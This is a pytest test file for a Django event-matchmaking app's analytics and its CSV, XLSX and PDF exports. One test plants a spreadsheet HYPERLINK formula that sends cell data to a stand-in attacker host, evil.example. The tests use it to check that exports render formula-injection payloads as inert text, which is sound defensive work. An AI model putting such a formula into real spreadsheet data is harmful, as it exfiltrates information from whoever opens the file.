"""Exports return the right rows; analytics numbers are right on a small fixture."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from matchforum.console.selectors import (
    acceptance_by_kind,
    meetings_by_country_pair,
    no_show_rate,
    request_funnel,
    table_use_per_slot,
)
from matchforum.forums.models import Slot
from matchforum.meetings.models import MeetingStatus
from matchforum.meetings.services import (
    meeting_place,
    meeting_request_accept,
    meeting_request_decline,
    meeting_request_send,
)
from matchforum.outcomes.models import MeetingOutcome

pytestmark = pytest.mark.django_db


@pytest.fixture
def small(forum, make_delegate):
    """UA producer meets LT investor (held) and PL buyer (no-show); LT declines a PL request."""
    ua = make_delegate(country="UA", kind="producer", name="Kyiv Optics")
    lt = make_delegate(country="LT", kind="investor", name="Vilnius Capital")
    pl = make_delegate(country="PL", kind="buyer", name="Warsaw Procurement")
    held = meeting_request_accept(
        meeting_request=meeting_request_send(sender=ua, recipient_organisation=lt.organisation),
        responder=lt,
    )
    missed = meeting_request_accept(
        meeting_request=meeting_request_send(sender=ua, recipient_organisation=pl.organisation),
        responder=pl,
    )
    meeting_request_decline(
        meeting_request=meeting_request_send(sender=pl, recipient_organisation=lt.organisation),
        responder=lt,
    )
    slots = list(Slot.objects.filter(session__day__forum=forum).order_by("starts_at"))
    held = meeting_place(meeting=held, slot=slots[0], table=forum.tables.get(number=1))
    missed = meeting_place(meeting=missed, slot=slots[1], table=forum.tables.get(number=1))
    held.status = MeetingStatus.HELD
    held.save()
    missed.status = MeetingStatus.NO_SHOW
    missed.save()
    MeetingOutcome.objects.create(
        meeting=held,
        organisation=ua.organisation,
        outcome="nda",
        rating=4,
        recorded_at=held.created_at,
    )
    return {"ua": ua, "lt": lt, "pl": pl, "held": held, "missed": missed, "slots": slots}


def test_analytics_numbers(forum, small):
    pairs = meetings_by_country_pair(forum=forum)
    assert pairs["countries"] == ["UA", "LT", "PL"]
    assert pairs["matrix"] == [[0, 1, 1], [1, 0, 0], [1, 0, 0]]
    assert [(s["label"], s["value"]) for s in request_funnel(forum=forum)] == [
        ("sent", 3),
        ("accepted", 2),
        ("scheduled", 2),
        ("held", 1),
        ("outcome", 1),
    ]
    kinds = {
        row["label"]: (row["accepted"], row["answered"], row["value"])
        for row in acceptance_by_kind(forum=forum)
    }
    assert kinds == {"Government or military buyer": (1, 1, 100), "Investor": (1, 2, 50)}
    assert no_show_rate(forum=forum) == {"held": 1, "no_show": 1, "percent": 50}
    use = table_use_per_slot(forum=forum)
    assert [row["used"] for row in use[:3]] == [1, 1, 0]
    assert use[0]["tables"] == 3


def test_analytics_page_renders_svg_charts(client, forum, small, organiser):
    client.force_login(organiser)
    html = client.get(reverse("console:analytics")).content.decode()
    assert html.count("<svg") == 6
    assert html.count('class="cell"') == 9  # the 3 x 3 country matrix


def test_csv_export_of_meetings_has_the_right_rows(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=["meetings", "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:6] == [
        "id",
        "organisation_a",
        "delegate_a",
        "organisation_b",
        "delegate_b",
        "status",
    ]
    body = {(r[1], r[3], r[5], r[6], r[7]) for r in rows[1:]}
    assert body == {
        ("Kyiv Optics", "Vilnius Capital", "held", "2027-03-16 09:00", "1"),
        ("Kyiv Optics", "Warsaw Procurement", "no_show", "2027-03-16 09:30", "1"),
    }


def test_xlsx_export_of_organisations(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=["organisations", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.values)
    assert values[0][:3] == ("id", "name", "country")
    assert sorted(v[1] for v in values[1:]) == [
        "Kyiv Optics",
        "Vilnius Capital",
        "Warsaw Procurement",
    ]


def test_running_order_pdf_lists_the_pairs_per_table(client, forum, small, organiser):
    client.force_login(organiser)
    response = client.get(reverse("console:running_order_pdf"))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Table 1" in text
    assert "Vilnius Capital" in text and "Warsaw Procurement" in text
    cards = client.get(reverse("console:table_cards_pdf"))
    assert len(PdfReader(io.BytesIO(cards.content)).pages) == 3  # one card per table in use


def test_unknown_export_is_404(client, forum, organiser):
    client.force_login(organiser)
    assert client.get(reverse("console:export", args=["secrets", "csv"])).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize("name", ["organisations", "meetings", "requests", "delegates"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_a_formula_in_a_name_as_inert_text(
    client, forum, small, organiser, name, fmt
):
    organisation = small["ua"].organisation
    organisation.name = FORMULA
    organisation.save()
    client.force_login(organiser)
    response = client.get(reverse("console:export", args=[name, fmt]))
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
        assert "'" + FORMULA in cells
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert "'" + FORMULA in [c.value for c in cells]
        assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("value", ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "=1"])
def test_safe_cell_prefixes_each_formula_start(value):
    from matchforum.core.spreadsheet import safe_cell

    assert safe_cell(value) == "'" + value
    assert safe_cell(-3) == -3
    assert safe_cell("Kyiv Optics") == "Kyiv Optics"
